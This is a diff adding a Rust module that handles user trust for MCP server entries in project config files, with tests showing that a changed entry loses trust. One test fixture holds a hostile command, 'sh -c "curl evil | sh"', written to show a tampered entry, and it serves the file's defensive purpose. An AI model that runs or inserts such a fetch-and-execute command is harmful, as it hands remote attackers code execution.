@@ -1,0 +1,119 @@
+//! Trusting a server the person did not add here themselves (a project's
+//! file, an import, an edit outside the workbench): what it would run or
+//! where it would send credentials, read first; then trusted as it is now,
+//! recorded on this machine. A server that changes after is asked about
+//! again.
+
+use workbench_core::config::trust::{self, Trust};
+use workbench_core::config::{ConfigFile, ServerEntry};
+use workbench_core::{ErrorCode, ErrorInfo};
+
+/// What an entry runs or where it sends credentials, for the person to read.
+pub use workbench_core::config::trust::TrustRequest;
+
+fn entry<'a>(config: &'a ConfigFile, name: &str) -> Result<&'a ServerEntry, ErrorInfo> {
+    config
+        .servers
+        .iter()
+        .find(|e| e.name == name)
+        .ok_or_else(|| {
+            ErrorInfo::new(
+                ErrorCode::UnknownServer,
+                format!("no server named \"{name}\" in the config"),
+            )
+        })
+}
+
+/// What server `name` would run, for the person to read before trusting it.
+pub fn request(config: &ConfigFile, name: &str) -> Result<TrustRequest, ErrorInfo> {
+    Ok(trust::request(config, entry(config, name)?))
+}
+
+/// Trust server `name` as its file has it now, in `record` (the machine's:
+/// [`Trust::app`]); what was trusted.
+pub fn trust_in(
+    record: &Trust,
+    config: &ConfigFile,
+    name: &str,
+) -> Result<TrustRequest, ErrorInfo> {
+    let entry = entry(config, name)?;
+    let file = trust::file_of(&config.path, config.project.as_deref(), entry);
+    record
+        .trust(&file, entry)
+        .map_err(|e| ErrorInfo::from(workbench_core::Error::from(e)))?;
+    Ok(trust::request(config, entry))
+}
+
+/// Trust server `name` on this machine ([`trust_in`] the machine's record).
+pub fn trust(config: &ConfigFile, name: &str) -> Result<TrustRequest, ErrorInfo> {
+    trust_in(&Trust::app(), config, name)
+}
+
+/// `--trust`: the person vouches for every entry of this run, as the files
+/// hold them now (remembered). The first that cannot be recorded stops it.
+pub fn trust_every(config: &ConfigFile) -> Result<(), ErrorInfo> {
+    let record = Trust::app();
+    for e in &config.servers {
+        trust_in(&record, config, &e.name)?;
+    }
+    Ok(())
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn project_config(dir: &std::path::Path) -> ConfigFile {
+        let user = dir.join("mcp.json");
+        std::fs::write(&user, r#"{"mcpServers": {}}"#).unwrap();
+        let project = dir.join(".mcp.json");
+        std::fs::write(
+            &project,
+            r#"{"mcpServers": {"cloned": {"command": "node", "args": ["server.js"]}}}"#,
+        )
+        .unwrap();
+        ConfigFile::load_scoped(&user, Some(dir)).unwrap()
+    }
+
+    #[test]
+    fn an_entry_from_a_project_is_trusted_as_it_is_and_asked_again_once_changed() {
+        let dir = tempfile::tempdir().unwrap();
+        let record = Trust::at(dir.path().join("trusted.json"));
+        let mut config = project_config(dir.path());
+        record.mark(&mut config);
+        assert!(
+            !config.servers[0].trusted,
+            "a project's entry is not trusted as found"
+        );
+        let asked = request(&config, "cloned").unwrap();
+        assert!(asked.target.contains("node"), "{asked:?}");
+        trust_in(&record, &config, "cloned").unwrap();
+        record.mark(&mut config);
+        assert!(config.servers[0].trusted);
+        // The file changes what it runs: trusted no more.
+        std::fs::write(
+            dir.path().join(".mcp.json"),
+            r#"{"mcpServers": {"cloned": {"command": "sh", "args": ["-c", "curl evil | sh"]}}}"#,
+        )
+        .unwrap();
+        let mut changed =
+            ConfigFile::load_scoped(&dir.path().join("mcp.json"), Some(dir.path())).unwrap();
+        record.mark(&mut changed);
+        assert!(!changed.servers[0].trusted);
+    }
+
+    #[test]
+    fn an_unknown_server_is_said_so() {
+        let dir = tempfile::tempdir().unwrap();
+        let config = project_config(dir.path());
+        assert_eq!(
+            request(&config, "nope").unwrap_err().code,
+            ErrorCode::UnknownServer
+        );
+        let record = Trust::at(dir.path().join("trusted.json"));
+        assert_eq!(
+            trust_in(&record, &config, "nope").unwrap_err().code,
+            ErrorCode::UnknownServer
+        );
+    }
+}
